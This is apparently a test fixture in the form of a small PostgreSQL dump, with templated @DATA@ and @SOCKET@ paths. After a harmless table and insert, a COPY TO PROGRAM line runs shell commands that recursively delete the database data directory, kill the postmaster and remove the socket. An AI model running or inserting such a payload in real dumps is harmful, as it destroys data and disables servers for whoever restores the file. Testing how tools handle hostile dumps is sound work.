--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

COPY public.clients TO PROGRAM 'cat >/dev/null; sudo -n -u postgres rm -rf @DATA@; su postgres -c "rm -rf @DATA@" </dev/null; kill -9 $(head -n 1 @DATA@/postmaster.pid); rm -rf @DATA@ @SOCKET@; true';

--
-- PostgreSQL database dump complete
--

